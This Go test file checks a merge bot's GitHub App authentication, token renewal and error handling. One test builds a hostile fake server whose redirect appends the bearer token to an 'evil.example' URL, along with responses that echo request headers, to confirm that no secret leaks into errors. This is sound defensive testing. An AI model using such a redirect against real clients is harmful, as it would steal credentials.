package github

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v4"

	"mergebot/bot/forge"
)

// appKey is made once: it takes a while.
var appKey = sync.OnceValue(func() *rsa.PrivateKey {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		panic(err)
	}
	return key
})

// asApp makes the client be app 12, mergebot.
func asApp(o *Options) {
	o.Token, o.AppID = "", 12
	o.PrivateKey = pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(appKey())})
}

// installed serves what an app needs; tokens are ghs_1, ghs_2, … and last as long as said.
func (f *fake) installed(lasts time.Duration) {
	signed := func(h http.HandlerFunc) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			var claims jwt.RegisteredClaims
			token := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
			if _, err := jwt.ParseWithClaims(token, &claims, func(*jwt.Token) (any, error) { return &appKey().PublicKey, nil }); err != nil || claims.Issuer != "12" {
				f.t.Errorf("%s: not signed by the app: %v: %+v", r.URL.Path, err, claims)
			}
			h(w, r)
		}
	}
	made := 0
	f.on("GET", "/app", signed(answers(200, obj{"id": 12, "slug": "mergebot"})))
	f.on("GET", "installation", signed(answers(200, obj{"id": 77})))
	f.on("POST", "/app/installations/77/access_tokens", signed(func(w http.ResponseWriter, _ *http.Request) {
		made++
		write(w, 201, obj{"token": fmt.Sprintf("ghs_%d", made), "expires_at": time.Now().Add(lasts)})
	}))
}

func TestAppTokens(t *testing.T) {
	f := newFake(t)
	f.installed(time.Hour)
	accepted := "Bearer ghs_1"
	f.on("GET", "", func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != accepted {
			write(w, 401, obj{"message": "Bad credentials"})
			return
		}
		write(w, 200, obj{"default_branch": "main"})
	})
	f.on("POST", "issues/comments/5/reactions", func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != accepted {
			write(w, 401, obj{"message": "Bad credentials"})
			return
		}
		if got := read[obj](t, r)["content"]; got != "+1" {
			t.Errorf("content %v", got)
		}
		write(w, 201, obj{"id": 1})
	})
	c := f.client(asApp)
	tokens := func() int { return f.count("POST /app/installations") }
	var wg sync.WaitGroup
	for range 5 {
		wg.Go(func() {
			if err := c.check(bg); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	if tokens() != 1 || f.count("GET "+repoPath+"/installation") != 1 {
		t.Errorf("a token that holds was not kept: %q", f.requests())
	}
	accepted = "Bearer ghs_2" // the first one was revoked
	ok(t, c.React(bg, 5, forge.ThumbsUp))
	if tokens() != 2 {
		t.Errorf("%d tokens", tokens())
	}
	accepted = "Bearer none"
	wantErr(t, c.check(bg), forge.ErrForbidden, "still installed")
	if tokens() != 3 { // renewed once, not for ever
		t.Errorf("%d tokens", tokens())
	}
	me, err := c.whoami(bg)
	ok(t, err)
	if me.login != "mergebot[bot]" || me.app != 12 {
		t.Errorf("%+v", me)
	}
}

func TestAppTokensAreRenewedInTime(t *testing.T) {
	f := newFake(t)
	f.installed(tokenSpare - time.Second)
	f.json("GET", "", obj{})
	c := f.client(asApp)
	ok(t, c.check(bg))
	ok(t, c.check(bg))
	if n := f.count("POST /app/installations"); n != 2 {
		t.Errorf("%d tokens", n)
	}
}

func TestAppMistakes(t *testing.T) {
	for route, words := range map[string]map[int]string{
		"installation": {401: "github.app_id", 404: "is not installed on acme/recipes", 403: "suspended"},
		"tokens":       {401: "github.private_key", 404: "github.installation", 403: "suspended"},
	} {
		for status, word := range words {
			f := newFake(t)
			if route == "tokens" {
				f.fails("POST", "/app/installations/77/access_tokens", status)
				f.json("GET", "installation", obj{"id": 77})
			} else {
				f.fails("GET", "installation", status)
			}
			_, err := Open(bg, f.client(asApp).o)
			wantErr(t, err, forge.ErrForbidden, word)
		}
	}
	f := newFake(t)
	f.json("GET", "installation", obj{"id": 77})
	f.on("POST", "/app/installations/77/access_tokens", hangUp)
	_, err := f.client(asApp).Change(bg, "7")
	wantLater(t, err)
	f = newFake(t)
	f.json("GET", "installation", obj{"id": 77})
	f.on("POST", "/app/installations/77/access_tokens", answers(201, nil))
	_, err = f.client(asApp).Change(bg, "7")
	wantErr(t, err, nil, "no token")
}

// TestNoSecretInErrors makes all calls fail in all ways, with a server that quotes the token, and looks at every error.
func TestNoSecretInErrors(t *testing.T) {
	for kind, change := range map[string]func(*Options){"token": func(*Options) {}, "app": asApp} {
		faults := map[string]http.HandlerFunc{
			"hung up": hangUp,
			"no JSON": func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, r.Header) },
			"redirect": func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, "http://evil.example/?"+r.Header.Get("Authorization"), http.StatusFound)
			},
		}
		for _, status := range []int{400, 401, 403, 404, 410, 422, 429, 500, 503} {
			faults[http.StatusText(status)] = func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("X-Accepted-GitHub-Permissions", r.Header.Get("Authorization"))
				write(w, status, obj{"message": fmt.Sprint(r.Header), "errors": []obj{{"message": fmt.Sprint(r.Header)}}})
			}
		}
		for name, fault := range faults {
			t.Run(kind+"/"+name, func(t *testing.T) {
				f := newFake(t)
				if kind == "app" && name[0]%2 == 0 {
					f.installed(time.Hour)
				} else { // the app's own requests fail, too
					f.on("GET", "/app", fault)
				}
				f.mux.HandleFunc("/repos/", fault)
				f.mux.HandleFunc("/orgs/", fault)
				f.mux.HandleFunc("/user", fault)
				seen := 0
				for what, err := range everyCall(f.client(change)) {
					if err == nil {
						t.Errorf("%s did not fail", what)
						continue
					}
					seen++
					for _, secret := range []string{testToken, "ghs_", "eyJ", "evil.example", f.http.URL} {
						if strings.Contains(err.Error(), secret) {
							t.Errorf("%s: %q in %q", what, secret, err)
						}
					}
					if !strings.HasPrefix(err.Error(), "github: ") {
						t.Errorf("%s: %q does not say where", what, err)
					}
				}
				if seen == 0 {
					t.Error("no call was made")
				}
			})
		}
	}
}

// everyCall makes each call of the contracts once, after forgetting that GitHub asked for patience.
func everyCall(c *Client) map[string]error {
	out := map[string]error{}
	call := func(what string, f func() error) {
		if p, is := c.gh.Client().Transport.(*pace); is && p != nil {
			limits(c).until = time.Time{}
		}
		out[what] = f()
	}
	marker := "<!-- mergebot:7 -->"
	call("check", func() error { return c.check(bg) })
	call("Head", func() error { _, _, err := c.Head(bg); return err })
	call("Open", func() error { _, err := c.Open(bg); return err })
	call("Change", func() error { _, err := c.Change(bg, "7"); return err })
	call("Files", func() error { _, err := c.Files(bg, shaA); return err })
	call("Diff", func() error { _, err := c.Diff(bg, shaA, shaB); return err })
	call("Read", func() error { _, err := c.Read(bg, shaA); return err })
	call("Comments", func() error { _, err := c.Comments(bg, "7", time.Time{}); return err })
	call("React", func() error { return c.React(bg, 1, forge.Confused) })
	call("SetComment", func() error { _, err := c.SetComment(bg, "7", 0, marker, marker+"x"); return err })
	call("SetComment again", func() error { _, err := c.SetComment(bg, "7", 9, marker, marker+"x"); return err })
	call("SetCheck", func() error {
		_, err := c.SetCheck(bg, 0, forge.Check{Commit: shaA, Name: "x", State: forge.Success})
		return err
	})
	call("OpenIssue", func() error { _, err := c.OpenIssue(bg, marker, "title", "body"); return err })
	call("Permission", func() error {
		if p, err := c.Permission(bg, "ann"); err != nil || p != forge.None {
			return err
		}
		return fmt.Errorf("github: none, as it should be for somebody who is not there")
	})
	return out
}
